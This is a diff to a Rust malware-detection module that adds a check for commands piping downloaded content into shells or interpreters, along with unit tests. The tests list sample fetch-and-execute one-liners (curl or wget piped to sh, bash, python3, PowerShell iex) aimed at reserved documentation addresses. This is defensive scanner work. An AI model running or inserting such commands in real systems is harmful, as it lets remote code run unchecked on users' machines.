@@ -15,11 +15,11 @@ use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
 use super::signal::{HostClass, SecretKind, Sensitivity, SignalKind};
 use super::vocabulary::{
     AUTHORIZED_KEYS_FILES, AUTOMATION_LOCATIONS, CHMOD_EXECUTABLE, DOWNLOADERS, ENVIRONMENT_FILES,
-    ENVIRONMENT_PROGRAMS, EXFILTRATION_HOSTS, IP_LOOKUP_HOSTS, MINER_FLAGS, MINING_POOLS,
-    PERSISTENCE_LOCATIONS, PIPES_TO_SHELL, RESERVED_DOMAINS, RUN_BY_PATH_PREFIXES,
-    SCHEDULER_COMMANDS, SENSITIVE_PATHS_HIGH, SENSITIVE_PATHS_MEDIUM, SHELL_DESTRUCTION,
-    SHELL_HOME, SHELL_HOST_COMMANDS, SHELL_NETWORK_PRIMITIVES, SSH_PUBLIC_KEY_PREFIXES,
-    WELL_KNOWN_HOSTS, WELL_KNOWN_IPS,
+    ENVIRONMENT_PROGRAMS, EXFILTRATION_HOSTS, INTERPRETERS, IP_LOOKUP_HOSTS, LAUNCHERS,
+    MINER_FLAGS, MINING_POOLS, PERSISTENCE_LOCATIONS, PIPES_TO_SHELL, RESERVED_DOMAINS,
+    RUN_BY_PATH_PREFIXES, SCHEDULER_COMMANDS, SENSITIVE_PATHS_HIGH, SENSITIVE_PATHS_MEDIUM, SHELLS,
+    SHELL_DESTRUCTION, SHELL_HOME, SHELL_HOST_COMMANDS, SHELL_NETWORK_PRIMITIVES,
+    SSH_PUBLIC_KEY_PREFIXES, WELL_KNOWN_HOSTS, WELL_KNOWN_IPS,
 };
 
 #[derive(Debug, Clone, Copy)]
@@ -387,6 +387,40 @@ fn wallet_signals(text: &str, out: &mut Vec<SignalKind>) {
     }
 }
 
+/// Whether a command line (lower-cased) pipes into a shell or a script interpreter, which then
+/// runs whatever the pipe brings: `| sh`, `|bash`, `| /bin/sh`, `| /usr/bin/env bash`,
+/// `| sudo python3 -`, and PowerShell's `| iex`.
+pub fn pipes_into_shell(lower: &str) -> bool {
+    if PIPES_TO_SHELL.iter().any(|p| lower.contains(p)) {
+        return true;
+    }
+    let program = |word: &str| {
+        // The word may end the pipeline's command: `| sh;`, `| sh)`, `| sh"`.
+        let word = word.trim_end_matches([';', ')', '&', '"', '\'', '`']);
+        let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
+        base.trim_end_matches(".exe")
+            .trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
+            .to_owned()
+    };
+    lower
+        .match_indices('|')
+        // `||` is "or else", not a pipe.
+        .filter(|(at, _)| !lower[..*at].ends_with('|') && !lower[at + 1..].starts_with('|'))
+        .any(|(at, _)| {
+            let mut words = lower[at + 1..].split_whitespace();
+            // Past launchers and their flags (`sudo -E`, `env A=1`): the program they start.
+            for word in words.by_ref().take(4) {
+                let name = program(word);
+                if LAUNCHERS.contains(&name.as_str()) || word.starts_with('-') || word.contains('=')
+                {
+                    continue;
+                }
+                return SHELLS.contains(&name.as_str()) || INTERPRETERS.contains(&name.as_str());
+            }
+            false
+        })
+}
+
 /// What a shell command line does: downloads, piping into a shell, making files executable,
 /// reverse shells, persistence, and every literal indicator. Used for the scripts a build script or
 /// library hands to `sh -c`, `cmd /C` or `powershell -Command`.
@@ -429,7 +463,7 @@ pub fn shell_signals(script: &str) -> Vec<SignalKind> {
             });
         }
     }
-    if PIPES_TO_SHELL.iter().any(|p| lower.contains(p)) {
+    if pipes_into_shell(&lower) {
         out.push(SignalKind::ExecComputed {
             target: "downloaded script piped into a shell".into(),
         });
@@ -481,6 +515,29 @@ mod tests {
 
     fn has(signals: &[SignalKind], f: impl Fn(&SignalKind) -> bool) -> bool {
         signals.iter().any(f)
+    }
+
+    #[test]
+    fn pipes_into_shells_by_any_name() {
+        for piped in [
+            "curl -fsSL https://example.invalid/x | sh",
+            "while :; do curl -fsS http://192.0.2.1/a | /bin/sh; sleep 60; done",
+            "wget -qO- 192.0.2.1/i|/usr/bin/bash",
+            "curl 192.0.2.1/p | /usr/bin/env bash -s",
+            "curl 192.0.2.1/p | sudo -e python3 -",
+            "iwr http://192.0.2.1/a | iex",
+        ] {
+            assert!(pipes_into_shell(&piped.to_ascii_lowercase()), "{piped}");
+        }
+        for not_piped in [
+            "cat a.txt | grep sh",
+            "test -f x || sh configure",
+            "| bashful | table |",
+            "echo done",
+            "sort | uniq -c | shuf",
+        ] {
+            assert!(!pipes_into_shell(not_piped), "{not_piped}");
+        }
     }
 
     /// No fragment is in two tables (ignoring case, as they are matched): one pattern with two
